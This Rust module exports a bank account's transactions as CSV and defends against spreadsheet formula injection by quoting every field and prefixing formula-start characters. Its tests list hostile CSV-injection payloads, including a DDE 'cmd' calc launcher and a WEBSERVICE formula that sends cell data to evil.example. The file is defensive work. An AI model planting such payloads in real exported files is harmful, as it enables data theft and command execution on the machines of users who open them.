//! The account's transactions as a CSV file that a spreadsheet cannot turn into a weapon
//! (issue 10). Payee, reference, even dates and currency codes are text the bank passes on from
//! whoever sent the money, and a spreadsheet runs a cell beginning with `=` as a formula
//! (`=WEBSERVICE(…)` sends the sheet's data away). So every field goes through one writer:
//!
//! - RFC 4180 by the `csv` crate, comma-separated, CRLF line ends, and **every field quoted**
//!   (`QuoteStyle::Always`). The crate's `Necessary` would quote a field holding `,`, `"` or a
//!   line break but not one holding `;`, the separator German (and French, Dutch…) Excel splits
//!   on; quoting everything is the simplest rule that covers it, and a quoted number is still a
//!   number to Excel, LibreOffice and Power Query.
//! - Text from the bank is **defused** (OWASP "CSV injection"): a `'` goes before a cell that
//!   begins with `=`, `+`, `-`, `@`, TAB or CR. It also goes before such a character right after
//!   a `;`, CR or LF inside the text: Excel opening the file by double-click in a `;` locale may
//!   start a new cell there whatever the quotes say, and that cell must not be a formula either.
//! - The amount is **not** text from the bank: Klarna sends it as a JSON integer (minor units),
//!   we store an integer, and [`amount`] formats it as `-?digits[.digits]`. A leading `-` there is
//!   a negative number for the bookkeeper's sums, never a formula, so it is left as it is.
//! - `?bom=true` puts a UTF-8 byte order mark first, so Excel reads umlauts as UTF-8.

use crate::auth::Bookkeeper;
use crate::bank_sync::target;
use crate::error::AppError;
use crate::state::AppState;
use axum::extract::{Path, Query, State};
use axum::http::header;
use axum::response::IntoResponse;
use klarna::api::{ApiError, BookedTransaction};
use klarna::FieldProblem;
use std::borrow::Cow;
use utoipa_axum::router::OpenApiRouter;
use utoipa_axum::routes;

pub fn routes() -> OpenApiRouter<AppState> {
    OpenApiRouter::new().routes(routes!(csv))
}

/// The columns, in order.
pub const HEADER: [&str; 5] = [
    "booking_date",
    "amount",
    "currency",
    "counterparty",
    "reference",
];

/// The UTF-8 byte order mark.
pub const BOM: &str = "\u{FEFF}";

/// Characters that make a spreadsheet read a cell as a formula (or hide what follows).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Text from the bank with a `'` before every character that would begin a formula: at the
/// start, and right after a `;`, CR or LF (where a `;`-splitting spreadsheet may start a cell).
pub fn defuse(text: &str) -> Cow<'_, str> {
    let mut out = String::new();
    let mut copied = 0;
    let mut cell_start = true;
    for (i, c) in text.char_indices() {
        if cell_start && FORMULA_START.contains(&c) {
            out.push_str(&text[copied..i]);
            out.push('\'');
            copied = i;
        }
        cell_start = matches!(c, ';' | '\r' | '\n');
    }
    if out.is_empty() {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    Cow::Owned(out)
}

/// The amount column: minor units as a decimal number in the currency's exponent (`-12.34`,
/// `-1234` in a currency without decimals). An unknown currency code counts as two decimals.
pub fn amount(minor: i64, currency: &str) -> String {
    let currency = klarna::Currency::from_code(currency).unwrap_or(klarna::Currency::EUR);
    klarna::money::to_decimal_string(minor, currency)
}

/// The whole file: header and one record per transaction, each bank text defused; `bom` puts
/// the UTF-8 byte order mark first.
pub fn write(list: &[BookedTransaction], bom: bool) -> Result<Vec<u8>, csv::Error> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(BOM.as_bytes());
    }
    let mut w = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    w.write_record(HEADER)?;
    for t in list {
        w.write_record([
            defuse(&t.booking_date).as_ref(),
            &amount(t.amount, &t.currency),
            &defuse(&t.currency),
            &defuse(&t.counterparty),
            &defuse(&t.reference),
        ])?;
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// `?bom=`: absent, `false` or `0` for none; `true` or `1` for Excel.
#[derive(serde::Deserialize, utoipa::IntoParams)]
#[into_params(parameter_in = Query)]
pub struct CsvQuery {
    /// `true` (or `1`) puts a UTF-8 byte order mark first, so that Excel reads the file as
    /// UTF-8; `false` (or `0`) or absent: none. Any other value is refused (400 naming `bom`).
    #[param(value_type = Option<bool>)]
    #[allow(dead_code)]
    bom: Option<String>,
}

/// The `bom` parameter, read from the raw pairs so that a repeated or unknown value is refused
/// in our error shape.
fn wants_bom(pairs: &[(String, String)]) -> Result<bool, AppError> {
    let mut values = pairs.iter().filter(|(k, _)| k == "bom").map(|(_, v)| v);
    let bad = || {
        AppError::bad_request("bom: use true or false (or 1 or 0), once.")
            .on("bom", FieldProblem::Invalid)
    };
    let answer = match values.next().map(String::as_str) {
        None | Some("false" | "0") => false,
        Some("true" | "1") => true,
        Some(_) => return Err(bad()),
    };
    match values.next() {
        Some(_) => Err(bad()),
        None => Ok(answer),
    }
}

/// The account's stored transactions as a CSV file (RFC 4180, every field quoted, bank texts
/// defused against formulas).
#[utoipa::path(
    get,
    path = "/api/accounts/{account}/transactions.csv",
    tag = "bank links",
    security(("bookkeeper_session" = [])),
    params(("account" = String, Path, description = "A linked account's id."), CsvQuery),
    responses(
        (status = 200, description = "RFC 4180 CSV, UTF-8, CRLF line ends, every field quoted: a header \
            `booking_date,amount,currency,counterparty,reference`, then one record per transaction, newest first. \
            `amount` is a decimal number (`-12.34` for a debit); every other field is the bank's text, with a `'` \
            before a leading `=`, `+`, `-`, `@`, TAB or CR (and before one following a `;` or a line break) so \
            that no spreadsheet runs it as a formula. With `bom=true` the file begins with a UTF-8 byte order mark.",
            body = String, content_type = "text/csv"),
        (status = 400, description = "A `bom` other than `true`, `false`, `1` or `0`, or given twice; `fields` names it.", body = ApiError),
        (status = 401, description = "Nobody is signed in; `fields` names the cookie.", body = ApiError),
        (status = 404, description = "Unknown `account`.", body = ApiError),
        (status = 500, description = "A failure of ours, with a `support_id`.", body = ApiError),
    ),
)]
async fn csv(
    State(app): State<AppState>,
    _who: Bookkeeper,
    Path(id): Path<String>,
    query: Result<Query<Vec<(String, String)>>, axum::extract::rejection::QueryRejection>,
) -> Result<impl IntoResponse, AppError> {
    let Query(pairs) = query.map_err(|_| {
        AppError::bad_request("The query string could not be read.")
            .on("bom", FieldProblem::Invalid)
    })?;
    let bom = wants_bom(&pairs)?;
    let t = target(&app, &id).await?;
    let list = app.store.transactions(&id).await?;
    let body = write(&list, bom).map_err(|e| AppError::internal("writing the CSV export", e))?;
    let name = format!(
        "attachment; filename=\"transactions-{}.csv\"",
        t.account.iban.replace(' ', "")
    );
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (header::CONTENT_DISPOSITION, name),
        ],
        body,
    ))
}

#[cfg(test)]
mod tests {
    use super::{amount, defuse, write, BOM, HEADER};
    use klarna::api::BookedTransaction;

    fn tx(
        date: &str,
        minor: i64,
        currency: &str,
        payee: &str,
        reference: &str,
    ) -> BookedTransaction {
        BookedTransaction {
            booking_date: date.into(),
            amount: minor,
            currency: currency.into(),
            counterparty: payee.into(),
            reference: reference.into(),
        }
    }

    fn text(list: &[BookedTransaction]) -> String {
        String::from_utf8(write(list, false).unwrap()).unwrap()
    }

    /// The file read back by an RFC 4180 reader: header, then the records.
    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn every_field_is_quoted_separators_quotes_and_line_breaks_included() {
        let out = text(&[tx("2026-06-10", -1234, "EUR", "a;b", "c,d")]);
        assert_eq!(
            out,
            "\"booking_date\",\"amount\",\"currency\",\"counterparty\",\"reference\"\r\n\
             \"2026-06-10\",\"-12.34\",\"EUR\",\"a;b\",\"c,d\"\r\n"
        );
        let out = text(&[tx("d", 1, "EUR", "say \"hi\"", "one\ntwo\rthree")]);
        assert!(
            out.ends_with("\"say \"\"hi\"\"\",\"one\ntwo\rthree\"\r\n"),
            "{out}"
        );
    }

    #[test]
    fn a_leading_formula_character_gets_a_quote_mark() {
        for start in ['=', '+', '-', '@', '\t', '\r'] {
            let cell = format!("{start}1+1");
            assert_eq!(defuse(&cell), format!("'{cell}"), "{start:?}");
        }
        for harmless in [
            "Rent",
            "",
            " =1",
            "'=1",
            "a=b",
            "Weber & Söhne",
            "2026-06-10",
            "EUR",
        ] {
            assert_eq!(defuse(harmless), harmless);
        }
        // Where a `;`-splitting spreadsheet might start a cell: after `;`, CR or LF.
        assert_eq!(defuse("x;=WEBSERVICE(1)"), "x;'=WEBSERVICE(1)");
        assert_eq!(defuse("a\r\n@b\n-c\r+d"), "a\r\n'@b\n'-c\r'+d");
        assert_eq!(defuse("a;;=b"), "a;;'=b");
        assert_eq!(
            defuse("a; =b, =c"),
            "a; =b, =c",
            "a space in between is text"
        );
        assert_eq!(defuse("==;=="), "'==;'==");
    }

    #[test]
    fn hostile_values_in_every_column_come_back_defused_and_nothing_else_changes() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "x;=WEBSERVICE(\"http://evil.example/?\"&A1)",
            "Miete, \"Juni\"\r\n2026",
            "Müller ÄÖÜ ß €",
        ];
        for h in hostile {
            let list = [
                tx(h, -500, h, h, h),
                tx("2026-06-10", 12_345, "EUR", "Café", h),
            ];
            let out = write(&list, false).unwrap();
            let rows = read(&out);
            assert_eq!(rows[0], HEADER);
            let d = defuse(h).into_owned();
            let d = d.as_str();
            assert_eq!(rows[1], [d, "-5.00", d, d, d], "{h:?}");
            assert_eq!(rows[2], ["2026-06-10", "123.45", "EUR", "Café", d], "{h:?}");
            // Defusing only adds quote marks: take them out and the bank's text is back.
            assert_eq!(d.replace('\'', ""), h.replace('\'', ""));
            for row in &rows[1..] {
                assert!(row.len() == 5);
                for (i, cell) in row.iter().enumerate().filter(|(i, _)| *i != 1) {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "column {i}: {cell:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn the_amount_is_always_a_number_made_from_the_integer() {
        let number = |s: &str| {
            let digits = s.strip_prefix('-').unwrap_or(s);
            !digits.is_empty()
                && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
                && digits.matches('.').count() <= 1
                && !digits.starts_with('.')
        };
        assert_eq!(amount(-1234, "EUR"), "-12.34");
        assert_eq!(amount(5, "EUR"), "0.05");
        assert_eq!(
            amount(-1234, "HUF"),
            "-12.34",
            "Klarna's HUF has two decimals"
        );
        // Whatever the bank calls the currency, the amount column is only our formatting.
        for currency in ["EUR", "SEK", "=1+1", "", "x;=WEBSERVICE(1)"] {
            for minor in [i64::MIN, -1, 0, 1, 99, i64::MAX] {
                let a = amount(minor, currency);
                assert!(number(&a), "{a:?} ({currency:?})");
                let row = &read(&write(&[tx("d", minor, currency, "", "")], false).unwrap())[1];
                assert_eq!(row[1], a);
            }
        }
    }

    #[test]
    fn the_bom_comes_first_only_when_asked_for() {
        let list = [tx("2026-06-10", 100, "EUR", "Müller", "Äpfel")];
        let plain = write(&list, false).unwrap();
        let excel = write(&list, true).unwrap();
        assert!(!plain.starts_with(BOM.as_bytes()));
        assert_eq!(&excel[..3], b"\xEF\xBB\xBF");
        assert_eq!(&excel[3..], &plain[..]);
    }

    #[test]
    fn the_bom_parameter_is_true_false_1_0_or_refused_naming_it() {
        let ask = |q: &[(&str, &str)]| {
            let pairs: Vec<(String, String)> = q
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect();
            super::wants_bom(&pairs).map_err(|e| e.body.fields[0].field.clone())
        };
        assert_eq!(ask(&[]), Ok(false));
        assert_eq!(ask(&[("bom", "true")]), Ok(true));
        assert_eq!(ask(&[("bom", "1")]), Ok(true));
        assert_eq!(ask(&[("bom", "false")]), Ok(false));
        assert_eq!(ask(&[("bom", "0")]), Ok(false));
        assert_eq!(ask(&[("other", "x")]), Ok(false));
        for bad in [
            &[("bom", "yes")][..],
            &[("bom", "")],
            &[("bom", "TRUE")],
            &[("bom", "1"), ("bom", "1")],
        ] {
            assert_eq!(ask(bad), Err("bom".to_string()), "{bad:?}");
        }
    }
}
